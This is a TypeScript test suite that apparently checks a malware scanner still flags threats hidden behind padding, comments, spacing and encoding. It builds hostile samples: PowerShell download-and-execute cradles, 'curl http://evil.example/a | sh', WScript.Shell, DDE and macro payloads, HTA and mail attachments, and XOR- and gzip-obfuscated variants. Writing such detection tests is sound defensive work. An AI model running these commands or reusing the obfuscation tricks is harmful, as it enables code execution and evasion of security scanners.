/** Padding of any length, where no limit is needed: a threat is found whatever is in front of it, between its parts or behind it. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { useInspector } from './testing/inspector.ts'
import { docx, EICAR, pdf } from './testing/samples.ts'
import { macroDocument } from './testing/vba-writer.ts'

const { inspect } = useInspector()

const LENGTHS = [1, 4, 5, 8, 9, 10, 16, 17, 20, 21, 32, 33, 40, 41, 64, 65, 80, 81, 100, 120, 200, 250, 300, 301, 999]
const LONG = [...LENGTHS, 2_001, 4_097, 9_000, 70_000]

const EVIL = 'powershell -w hidden iwr http://192.0.2.1/a'
const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"
const OBJECT = `new ActiveXObject("WScript.Shell").Run("${EVIL}",0)`
const EXPORTS = String.raw`(this.exportDataObject\({cName:"a.exe", nLaunch:2}\))`
const base64 = (text: string | Uint8Array): string => Buffer.from(text as string).toString('base64')
const joined = (sign: string): string =>
  `<html><script>x="${base64(EICAR)
    .match(/.{1,6}/g)
    ?.join(sign)}"</script></html>`
const application = (content: string): string => `<html><hta:application id=a>${content}</html>`
const part = (headers: string, body: string): string =>
  `From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=bb\r\n\r\n--bb\r\nContent-Type: text/plain\r\n\r\nHello\r\n--bb\r\n${headers}\r\n\r\n${body}\r\n--bb--\r\n`
const mail = (body: string): string => `From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\n\r\nHi\r\n${body}`
const DIGITS = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'
const UUENCODED = [...(EICAR.match(/.{1,45}/g) ?? []), '']
  .map((line) => {
    const digits = Buffer.from(line.padEnd(Math.ceil(line.length / 3) * 3, '\0')).toString('base64')
    return String.fromCharCode(
      ...[line.length, ...Array.from(digits, (digit) => DIGITS.indexOf(digit))].map((n) => n + 0x20),
    )
  })
  .join('\n')

const FETCH = "(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')"
const xored = (text: string, key: string): Uint8Array =>
  Uint8Array.from(Buffer.from(text, 'latin1'), (byte, i) => byte ^ key.charCodeAt(i % key.length))
const filled = (length: number): string => `${'$a = 1; '.repeat(Math.ceil(length / 8))}`
/** Each is longer than the command that is hidden among them, which is tried last. */
const others = (count: number, name: (i: number) => string): string =>
  Array.from(
    { length: count },
    (_, i) => `${name(i)} = "${base64(`Sentence ${i} ${'has many words '.repeat(8)}`)}"\n`,
  ).join('')

type Rows = Readonly<Record<string, [name: string, of: (length: number) => string | Buffer]>>

const SHORT: Rows = {
  'spaces before a plus': ['a.html', (length) => joined(`"${' '.repeat(length)}+"`)],
  'spaces behind a plus': ['a.html', (length) => joined(`"+${' '.repeat(length)}"`)],
  'brackets behind a plus': ['a.html', (length) => joined(`"+${'('.repeat(length)}"`)],
  'a comment behind a plus': ['a.html', (length) => joined(`"+/*${'a'.repeat(length)}*/"`)],
  'a comment of stars': ['a.html', (length) => joined(`"/*${'*'.repeat(length)}*/+"`)],
  'a comment with quotes': ['a.html', (length) => joined(`"+/*${'"+'.repeat(length)}*/"`)],
  'a comment up to the end of a line': ['a.html', (length) => joined(`"+//${'a'.repeat(length)}\n"`)],
  'comments behind a plus': ['a.html', (length) => joined(`"+${'/**/'.repeat(length)}"`)],
  'spaces in a call that joins': ['a.html', (length) => joined(`"${' '.repeat(length)}.concat(${' '.repeat(length)}"`)],
  'the name of a text that is appended to': ['a.html', (length) => joined(`";${'a'.repeat(length)}+="`)],
  'spaces in a template': ['a.html', (length) => joined(`\${${' '.repeat(length)}''${' '.repeat(length)}}`)],
  'spaces between the texts of a list': [
    'a.html',
    (length) =>
      joined(`"${' '.repeat(length)},${' '.repeat(length)}"`)
        .replace('x="', 'x=["')
        .replace('"<', '"].join("")<'),
  ],
  'comments between the texts of a list': [
    'a.html',
    (length) =>
      joined(`",/*${'a'.repeat(length)}*/"`)
        .replace('x="', 'x=["')
        .replace('"<', '"].join("")<'),
  ],
}

const ANY: Rows = {
  'headers of a script in a mail': [
    'a.eml',
    (length) => part(`Content-Disposition: attachment; filename="a.js"\r\nX-A: ${'a'.repeat(length)}`, OBJECT),
  ],
  'parameters before the name of a script in a mail': [
    'a.eml',
    (length) => part(`Content-Disposition: attachment; x="${'a'.repeat(length)}"; filename="a.js"`, OBJECT),
  ],
  'headers of a page in a mail': [
    'a.eml',
    (length) => part(`Content-Type: text/html\r\nX-A: ${'a'.repeat(length)}`, `<script>${OBJECT}</script>`),
  ],
  'spaces before the type of a page in a mail': [
    'a.mht',
    (length) => part(`Content-Type:${' '.repeat(length)}text/html`, application(`<script>${OBJECT}</script>`)),
  ],
  'attributes before the address of a script': [
    'a.hta',
    (length) => application(`<script ${'a '.repeat(length)} src="http://192.0.2.1/a.js"></script>`),
  ],
  'spaces before the address of a script': [
    'a.hta',
    (length) => application(`<script src${' '.repeat(length)}="http://192.0.2.1/a.js"></script>`),
  ],
  'the prefix of a script': [
    'a.hta',
    (length) => application(`<${'a'.repeat(length)}:script>${OBJECT}</${'a'.repeat(length)}:script>`),
  ],
  'spaces before the name of an object': [
    'a.hta',
    (length) =>
      application(
        `<object id${' '.repeat(length)}="sh" classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object><script>sh.Run("${EVIL}")</script>`,
      ),
  ],
  'spaces before a uuencoded file': ['a.eml', (length) => mail(`${' '.repeat(length)}begin 644 a.exe\r\n${UUENCODED}`)],
  'the mode of a uuencoded file': ['a.eml', (length) => mail(`begin ${'0'.repeat(length)}644 a.exe\r\n${UUENCODED}`)],
  'the name of a section': [
    'a.url',
    (length) => `[InternetShortcut${' '.repeat(length)}]\r\nURL=file://192.0.2.1/a/b.exe\r\n`,
  ],
  'spaces before a data URL': [
    'a.html',
    (length) => `<html><a href="${' '.repeat(length)}data:text/html,'%3Cx>${encodeURIComponent(EICAR)}">x</a></html>`,
  ],
  'spaces in the start of a PDF object': [
    'a.docx',
    (length) => {
      const document = pdf([`<< /Type /Catalog /OpenAction << /S /JavaScript /JS ${EXPORTS} >> >>`]).toString('latin1')
      const spaced = document.replace('1 0 obj', `1 0${' '.repeat(length)}obj`)
      return docx({ 'word/a.bin': Buffer.concat([Buffer.alloc(3_000, 1), Buffer.from(spaced, 'latin1')]) })
    },
  ],
  'headers of a mail behind a PDF': [
    'a.pdf',
    (length) =>
      `${pdf(['<< /Type /Catalog >>']).toString('latin1')}MIME-Version: 1.0\r\nX: ${'a'.repeat(length)}\r\nContent-Type: multipart/related\r\n\r\n<o:OLEObject>`,
  ],
  'spaces in a conversation of a table': [
    'a.csv',
    (length) => `a,b\r\n=DDE(${' '.repeat(Math.min(length, 8_000))}"cmd";"/c ${EVIL}";"x")\r\n`,
  ],
  'words before a procedure that sets something': [
    'a.docm',
    (length) =>
      macroDocument(
        `Sub AutoOpen()\r\nP = "${EVIL}"\r\nEnd Sub\r\nPublic${' '.repeat(length)} Property Let P(x)\r\nShell x\r\nEnd Property`,
      ),
  ],
}

/** Counts of other texts, and lengths of keys, gaps and blocks. */
const SCRIPTS: Rows = {
  'a text under a key in Python': [
    'a.py',
    (count) => `${others(count, (i) => `t${i}`)}f(bytes(b ^ 90 for b in b64decode("${base64(xored(EVIL, 'Z'))}")))\n`,
  ],
  'a text under a key in PowerShell': [
    'a.ps1',
    (count) => `${others(count, (i) => `$t${i}`)}f "${base64(xored(CRADLE, 'Z'))}" -bxor 90\n`,
  ],
  'a packed text': ['a.sh', (count) => `${others(count, (i) => `t${i}`)}f "${gzipSync(CRADLE).toString('base64')}"\n`],
  'a key': ['a.ps1', (length) => `$k='${'k'.repeat(length)}'\nf ${xored(CRADLE, 'k'.repeat(length))} -bxor $k`],
  'a key of numbers': [
    'a.ps1',
    (length) => {
      const key = Array.from({ length: length + 1 }, (_, i) => String.fromCharCode(1 + (i % 200))).join('')
      return `$k=${Array.from(key, (char) => char.charCodeAt(0))}\nf "${base64(xored(CRADLE, key))}" -bxor $k`
    },
  ],
  'gaps of a list': ['a.ps1', (length) => `f @(${[...xored(CRADLE, 'Z')].join(`,${' '.repeat(length)}`)}) -bxor 90`],
  'statements before a shell gets an answer': [
    'a.sh',
    (count) => `#!/bin/sh\n${'a=1\n'.repeat(count)}curl http://evil.example/a | sh\n`,
  ],
}

const BLOCKS: Rows = {
  'a block that is assigned': ['a.ps1', (length) => `$s = & {${filled(length)}${FETCH} }\niex $s\n`],
  'a block in a block': ['a.ps1', (length) => `$s = & { if (1) {${filled(length)}${FETCH} } }\niex $s\n`],
  'the other branch': ['a.ps1', (length) => `$s = if ($x) { 1 } else {${filled(length)}${FETCH} }\niex $s\n`],
}

suite('is found behind or between', () => {
  for (const [lengths, rows] of [
    [LENGTHS, SHORT],
    [LONG, ANY],
    [[1, 9, 33, 65, 260], SCRIPTS],
    [[1, 1_900, 2_001, 9_000], BLOCKS],
  ] as const)
    for (const [what, [name, of]] of Object.entries(rows))
      test(what, () => {
        for (const length of lengths) {
          const { findings, obstacle } = inspect(Buffer.from(of(length) as string, 'latin1'), { name })
          const isFound = findings.some(({ severity }) => severity !== 'notice') || obstacle !== null
          assert.ok(isFound, `${length}`)
        }
      })
})
